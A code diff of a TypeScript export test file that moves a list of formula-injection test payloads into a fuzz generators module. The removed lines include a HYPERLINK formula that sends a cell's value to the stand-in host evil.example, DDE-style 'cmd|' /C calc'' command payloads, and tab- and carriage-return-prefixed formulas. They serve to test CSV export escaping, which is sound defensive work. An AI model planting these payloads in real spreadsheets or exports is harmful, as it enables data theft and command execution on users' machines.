@@ -6,6 +6,7 @@ import { tableFromIPC } from 'apache-arrow';
 import { parse } from 'csv-parse/sync';
 import type { Response } from 'supertest';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { FORMULA_PAYLOADS } from '../fuzz/generators.js';
 import { refreshRollups } from '../../apps/api/src/modules/analytics/rollups/rollups.service.js';
 import { loadExportFixture } from './export-records.fixture.js';
 import { truncateFacts } from './support/test-db.js';
@@ -16,15 +17,6 @@ import { startTestApp, type TestApp } from './support/test-app.js';
 // starts with = + - @, a tab or a carriage return gets a leading single quote; numbers stay numbers;
 // Arrow and Parquet keep the value as stored.
 
-export const FORMULA_PAYLOADS = [
-  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
-  '@SUM(1)',
-  "+SUM(1+1)*cmd|' /C calc'!A0",
-  '=1+1 cred',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '\t=1+2',
-  '\r=1+2',
-];
 const ROOT = join(import.meta.dirname, '../..');
 const postgres = inject('databaseMode') === 'postgres';
 
